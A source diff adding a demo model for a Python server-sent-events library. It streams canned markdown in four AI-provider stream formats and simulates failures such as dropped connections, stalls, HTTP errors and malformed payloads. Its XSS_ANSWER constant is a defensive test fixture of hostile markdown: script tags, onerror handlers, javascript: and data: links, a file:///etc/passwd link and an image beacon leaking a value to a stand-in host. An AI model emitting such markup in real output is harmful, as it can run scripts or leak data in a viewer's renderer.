@@ -1,0 +1,533 @@
+"""The demo model: canned markdown answers, encoded in any of the four provider formats, plus
+"break it on purpose" scenarios. Pure and deterministic (a seed per request); the ASGI side
+in ``pysse.server`` only paces the bytes out.
+
+A scenario is a ``Plan``: an HTTP status, headers, and a list of ``(delay_seconds, bytes)``
+writes. The writes are cut at boundaries that do not line up with events, as a real network
+would cut them.
+"""
+
+from __future__ import annotations
+
+import json
+import random
+from dataclasses import dataclass, field
+from typing import Any
+
+__all__ = ["COMMANDS", "Plan", "answer_for", "encode", "last_user_text", "plan"]
+
+COMMANDS = {
+    "help": "list these commands",
+    "drop": "the connection dies mid-answer (no terminal event)",
+    "stall": "the stream goes silent mid-answer",
+    "401": "the relay answers 401 Unauthorized",
+    "429": "the relay answers 429 Too Many Requests with Retry-After",
+    "500": "the relay answers 500 Internal Server Error",
+    "html": "200 OK with an HTML page instead of a stream",
+    "error": "the provider sends an error event mid-stream",
+    "malformed": "a data payload that is not valid JSON",
+    "bytes": "the answer in 1-byte chunks",
+    "burst": "the whole answer in one chunk",
+    "long": "a ~30 KB answer, fast",
+    "slow": "a slow answer (a delta every 250 ms)",
+    "xss": "hostile markdown: scripts, handlers, javascript: links, image beacons",
+    "echo": "/demo echo TEXT streams TEXT verbatim",
+}
+
+RICH_ANSWER = """# Streaming, explained
+
+Server-Sent Events carry an answer **as it is written**, one *small delta* at a time.
+The parser keeps a partial line until its end arrives — even when a character like é, 東, or 🙂
+is cut in half by the network.
+
+## What arrives on the wire
+
+1. A `data:` line with a JSON payload
+2. A blank line that ends the event
+3. At the end, a terminal signal such as `[DONE]`
+
+- Comments (`: ping`) keep idle connections alive
+- Unknown fields are ignored
+  - nested items work too
+
+| Provider | Terminal signal | Line ends |
+|---|---|---|
+| OpenAI Chat | `data: [DONE]` | LF |
+| Anthropic | `message_stop` | LF |
+| Gemini | `finishReason` | CRLF |
+
+```python
+from pysse import ChatStream
+
+cs = ChatStream("auto")
+for chunk in response.iter_bytes():
+    for event in cs.feed(chunk):
+        print(event)
+print(cs.close(), cs.outcome)
+```
+
+> A dead connection is never reported as *done*: without the terminal signal the answer
+> is marked ~~complete~~ **truncated**.
+
+Read more in the [WHATWG spec](https://html.spec.whatwg.org/multipage/server-sent-events.html).
+Привет, мир! こんにちは世界 — done. ✅
+"""
+
+XSS_ANSWER = """Hostile markdown follows; nothing here may run or load.
+
+<script>window.__pwned = 1</script>
+
+<img src=x onerror="window.__pwned = 2">
+
+[click me](javascript:window.__pwned=3) and [data link](data:text/html,<script>alert(1)</script>)
+and [vb](vbscript:msgbox) and [file](file:///etc/passwd).
+
+![beacon](https://tracker.invalid/pixel.gif?leak=secret)
+
+<a href="javascript:alert(1)">raw anchor</a> <iframe src="https://evil.invalid/"></iframe>
+
+[**bold <b>html</b> in link**](https://example.com/ok) is a fine link.
+
+```html
+<script>alert("in a code block this is just text")</script>
+```
+"""
+
+
+def _long_answer(target: int = 30_000) -> str:
+    parts = ["# A long answer\n\n"]
+    i = 0
+    while sum(map(len, parts)) < target:
+        i += 1
+        parts.append(
+            f"## Section {i}\n\nParagraph {i} has **bold**, *italic*, `code` and a "
+            f"[link](https://example.com/{i}). Unicode: é 東京 🙂 — item {i}.\n\n"
+            f"- point {i}.a\n- point {i}.b\n  - nested {i}\n\n"
+            f"| n | square |\n|---|---|\n| {i} | {i * i} |\n\n"
+            f"```python\ndef f_{i}(x):\n    return x * {i}\n```\n\n"
+        )
+    return "".join(parts)
+
+
+def answer_for(prompt: str) -> str:
+    """The demo model's markdown answer to a prompt (commands handled by ``plan``)."""
+    p = prompt.strip()
+    if p.startswith("/demo echo"):
+        return p[len("/demo echo") :].lstrip(" ")
+    if p.startswith("/demo help"):
+        rows = "\n".join(f"| `/demo {k}` | {v} |" for k, v in COMMANDS.items())
+        return "## Demo commands\n\n| command | what it does |\n|---|---|\n" + rows + "\n"
+    if p.startswith("/demo long"):
+        return _long_answer()
+    if p.startswith("/demo xss"):
+        return XSS_ANSWER
+    return RICH_ANSWER
+
+
+def split_deltas(text: str, rnd: random.Random, lo: int = 1, hi: int = 12) -> list[str]:
+    """Cut text into small deltas (code points, never bytes: deltas are strings)."""
+    out, i = [], 0
+    while i < len(text):
+        n = rnd.randint(lo, hi)
+        out.append(text[i : i + n])
+        i += n
+    return out
+
+
+# -- encoders: one per provider format ---------------------------------------------------------
+
+
+def _sse(data: Any, event: str | None = None, eol: str = "\n") -> bytes:
+    body = data if isinstance(data, str) else json.dumps(data, ensure_ascii=False)
+    head = f"event: {event}{eol}" if event else ""
+    return f"{head}data: {body}{eol}{eol}".encode()
+
+
+def encode(
+    fmt: str,
+    deltas: list[str],
+    *,
+    error_at: int | None = None,
+    malformed_at: int | None = None,
+    terminal: bool = True,
+) -> list[bytes]:
+    """The events of a streamed answer in ``fmt``, one bytes object per event.
+
+    ``error_at``/``malformed_at``: after that many deltas, a provider error event / a payload
+    that is not JSON, and nothing more. ``terminal=False`` leaves the terminal signal out."""
+    out_tokens = max(1, sum(len(d) for d in deltas) // 4)
+    ev: list[bytes] = []
+    eol = "\r\n" if fmt == "gemini" else "\n"
+
+    def err_event() -> bytes:
+        if fmt == "anthropic":
+            return _sse(
+                {
+                    "type": "error",
+                    "error": {"type": "overloaded_error", "message": "Overloaded (demo)"},
+                },
+                "error",
+            )
+        if fmt == "openai-responses":
+            return _sse(
+                {"type": "error", "code": "server_error", "message": "The model failed (demo)."},
+                "error",
+            )
+        if fmt == "gemini":
+            return _sse(
+                {
+                    "error": {
+                        "code": 503,
+                        "status": "UNAVAILABLE",
+                        "message": "The model is overloaded (demo).",
+                    }
+                },
+                eol=eol,
+            )
+        return _sse(
+            {"error": {"type": "server_error", "message": "The server had an error (demo)."}}
+        )
+
+    if fmt == "anthropic":
+        ev.append(
+            _sse(
+                {
+                    "type": "message_start",
+                    "message": {
+                        "id": "msg_demo",
+                        "type": "message",
+                        "role": "assistant",
+                        "model": "demo",
+                        "content": [],
+                        "usage": {"input_tokens": 12, "output_tokens": 1},
+                    },
+                },
+                "message_start",
+            )
+        )
+        ev.append(
+            _sse(
+                {
+                    "type": "content_block_start",
+                    "index": 0,
+                    "content_block": {"type": "text", "text": ""},
+                },
+                "content_block_start",
+            )
+        )
+    elif fmt == "openai-responses":
+        resp = {"id": "resp_demo", "object": "response", "status": "in_progress", "model": "demo"}
+        ev.append(_sse({"type": "response.created", "response": resp}, "response.created"))
+        ev.append(
+            _sse(
+                {
+                    "type": "response.output_item.added",
+                    "output_index": 0,
+                    "item": {
+                        "id": "msg_demo",
+                        "type": "message",
+                        "role": "assistant",
+                        "content": [],
+                    },
+                },
+                "response.output_item.added",
+            )
+        )
+    elif fmt == "openai-chat":
+        ev.append(
+            _sse(
+                {
+                    "id": "chatcmpl-demo",
+                    "object": "chat.completion.chunk",
+                    "model": "demo",
+                    "choices": [
+                        {
+                            "index": 0,
+                            "delta": {"role": "assistant", "content": ""},
+                            "finish_reason": None,
+                        }
+                    ],
+                }
+            )
+        )
+    for i, d in enumerate(deltas):
+        if error_at is not None and i == error_at:
+            ev.append(err_event())
+            return ev
+        if malformed_at is not None and i == malformed_at:
+            ev.append(f'data: {{"choices": [{{"delta": {{"content": "oops{eol}{eol}'.encode())
+            return ev
+        if fmt == "anthropic":
+            ev.append(
+                _sse(
+                    {
+                        "type": "content_block_delta",
+                        "index": 0,
+                        "delta": {"type": "text_delta", "text": d},
+                    },
+                    "content_block_delta",
+                )
+            )
+        elif fmt == "openai-responses":
+            ev.append(
+                _sse(
+                    {
+                        "type": "response.output_text.delta",
+                        "item_id": "msg_demo",
+                        "output_index": 0,
+                        "content_index": 0,
+                        "delta": d,
+                    },
+                    "response.output_text.delta",
+                )
+            )
+        elif fmt == "gemini":
+            ev.append(
+                _sse(
+                    {
+                        "candidates": [
+                            {"content": {"parts": [{"text": d}], "role": "model"}, "index": 0}
+                        ],
+                        "modelVersion": "demo",
+                    },
+                    eol=eol,
+                )
+            )
+        else:
+            ev.append(
+                _sse(
+                    {
+                        "id": "chatcmpl-demo",
+                        "object": "chat.completion.chunk",
+                        "model": "demo",
+                        "choices": [{"index": 0, "delta": {"content": d}, "finish_reason": None}],
+                    }
+                )
+            )
+        if i % 40 == 39:
+            ev.append(f": keep-alive{eol}{eol}".encode())
+    if not terminal:
+        return ev
+    if fmt == "anthropic":
+        ev.append(_sse({"type": "content_block_stop", "index": 0}, "content_block_stop"))
+        ev.append(
+            _sse(
+                {
+                    "type": "message_delta",
+                    "delta": {"stop_reason": "end_turn"},
+                    "usage": {"output_tokens": out_tokens},
+                },
+                "message_delta",
+            )
+        )
+        ev.append(_sse({"type": "message_stop"}, "message_stop"))
+    elif fmt == "openai-responses":
+        text = "".join(deltas)
+        ev.append(
+            _sse(
+                {
+                    "type": "response.output_text.done",
+                    "output_index": 0,
+                    "content_index": 0,
+                    "text": text,
+                },
+                "response.output_text.done",
+            )
+        )
+        ev.append(
+            _sse(
+                {
+                    "type": "response.completed",
+                    "response": {
+                        "id": "resp_demo",
+                        "status": "completed",
+                        "usage": {"input_tokens": 12, "output_tokens": out_tokens},
+                    },
+                },
+                "response.completed",
+            )
+        )
+    elif fmt == "gemini":
+        ev.append(
+            _sse(
+                {
+                    "candidates": [
+                        {
+                            "content": {"parts": [{"text": ""}], "role": "model"},
+                            "finishReason": "STOP",
+                            "index": 0,
+                        }
+                    ],
+                    "usageMetadata": {"promptTokenCount": 12, "candidatesTokenCount": out_tokens},
+                },
+                eol=eol,
+            )
+        )
+    else:
+        ev.append(
+            _sse(
+                {
+                    "id": "chatcmpl-demo",
+                    "object": "chat.completion.chunk",
+                    "model": "demo",
+                    "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}],
+                }
+            )
+        )
+        ev.append(
+            _sse(
+                {
+                    "id": "chatcmpl-demo",
+                    "object": "chat.completion.chunk",
+                    "model": "demo",
+                    "choices": [],
+                    "usage": {"prompt_tokens": 12, "completion_tokens": out_tokens},
+                }
+            )
+        )
+        ev.append(b"data: [DONE]\n\n")
+    return ev
+
+
+# -- scenarios ---------------------------------------------------------------------------------
+
+
+@dataclass
+class Plan:
+    status: int = 200
+    headers: dict[str, str] = field(default_factory=dict)
+    writes: list[tuple[float, bytes]] = field(default_factory=list)
+    stall_after: bool = False  # after the writes, keep the connection open and silent
+
+
+def _rechunk(events: list[bytes], rnd: random.Random, lo: int, hi: int) -> list[bytes]:
+    """Cut the concatenated events at random places, ignoring event boundaries."""
+    data = b"".join(events)
+    out, i = [], 0
+    while i < len(data):
+        n = rnd.randint(lo, hi)
+        out.append(data[i : i + n])
+        i += n
+    return out
+
+
+SSE_HEADERS = {
+    "content-type": "text/event-stream; charset=utf-8",
+    "cache-control": "no-cache",
+    "x-accel-buffering": "no",
+}
+
+
+def plan(fmt: str, prompt: str, seed: int = 0, pace: float = 1.0) -> Plan:
+    """What the demo relay sends for ``prompt`` in ``fmt``. ``pace`` scales every delay
+    (tests use small values to run fast)."""
+    rnd = random.Random(seed)
+    cmd = (
+        prompt.strip().removeprefix("/demo").strip().split(" ", 1)[0]
+        if prompt.strip().startswith("/demo")
+        else ""
+    )
+    if cmd == "401":
+        return Plan(
+            401,
+            {"content-type": "application/json"},
+            [
+                (
+                    0,
+                    json.dumps(
+                        {
+                            "error": {
+                                "type": "authentication_error",
+                                "message": "Invalid API key (demo).",
+                            }
+                        }
+                    ).encode(),
+                )
+            ],
+        )
+    if cmd == "429":
+        return Plan(
+            429,
+            {"content-type": "application/json", "retry-after": "7"},
+            [
+                (
+                    0,
+                    json.dumps(
+                        {
+                            "error": {
+                                "type": "rate_limit_error",
+                                "message": "Rate limit reached (demo).",
+                            }
+                        }
+                    ).encode(),
+                )
+            ],
+        )
+    if cmd == "500":
+        return Plan(
+            500,
+            {"content-type": "text/plain; charset=utf-8"},
+            [(0, b"Internal Server Error (demo)")],
+        )
+    if cmd == "html":
+        return Plan(
+            200,
+            {"content-type": "text/html; charset=utf-8"},
+            [(0, b"<!doctype html><html><body><h1>Welcome to nginx!</h1></body></html>")],
+        )
+    text = answer_for(prompt)
+    deltas = split_deltas(text, rnd, 1, 12 if cmd != "long" else 40)
+    kw: dict[str, Any] = {}
+    if cmd == "error":
+        kw["error_at"] = len(deltas) // 3
+    if cmd == "malformed":
+        kw["malformed_at"] = len(deltas) // 3
+    if cmd in ("drop", "stall"):
+        deltas = deltas[: len(deltas) // 3]
+        kw["terminal"] = False
+    events = encode(fmt, deltas, **kw)
+    if cmd == "bytes":
+        chunks = _rechunk(events, rnd, 1, 1)
+        delays = [0.002 * pace] * len(chunks)
+    elif cmd == "burst":
+        chunks = [b"".join(events)]
+        delays = [0.0]
+    elif cmd == "long":
+        chunks = _rechunk(events, rnd, 200, 1400)
+        delays = [0.004 * pace] * len(chunks)
+    else:
+        chunks = _rechunk(events, rnd, 5, 90)
+        lo, hi = (0.2, 0.3) if cmd == "slow" else (0.02, 0.06)
+        delays = [rnd.uniform(lo, hi) * pace for _ in chunks]
+    delays[0] = 0.05 * pace  # time to first byte
+    return Plan(
+        200, dict(SSE_HEADERS), list(zip(delays, chunks, strict=True)), stall_after=cmd == "stall"
+    )
+
+
+def last_user_text(body: dict[str, Any]) -> str:
+    """The last user message of a request in any of the four formats."""
+
+    def text_of(content: Any) -> str:
+        if isinstance(content, str):
+            return content
+        if isinstance(content, list):
+            return "".join(p.get("text", "") if isinstance(p, dict) else str(p) for p in content)
+        return ""
+
+    if isinstance(body.get("contents"), list):  # gemini
+        for c in reversed(body["contents"]):
+            if isinstance(c, dict) and c.get("role", "user") == "user":
+                return text_of(c.get("parts"))
+    if isinstance(body.get("messages"), list):  # openai-chat, anthropic
+        for m in reversed(body["messages"]):
+            if isinstance(m, dict) and m.get("role") == "user":
+                return text_of(m.get("content"))
+    inp = body.get("input")  # openai-responses
+    if isinstance(inp, str):
+        return inp
+    if isinstance(inp, list):
+        for m in reversed(inp):
+            if isinstance(m, dict) and m.get("role", "user") == "user":
+                return text_of(m.get("content"))
+    return ""
